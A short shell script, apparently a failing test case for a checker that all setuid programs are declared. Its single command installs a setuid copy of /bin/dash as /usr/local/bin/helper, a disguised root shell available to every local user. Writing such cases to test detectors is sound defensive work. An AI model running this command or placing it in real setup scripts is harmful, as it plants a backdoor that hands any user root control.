#!/bin/sh
# A copy of a shell that makes everybody root.
# breaks setuid_programs_are_declared: /usr/local/bin/helper
set -eu
install -m 4755 /bin/dash /usr/local/bin/helper
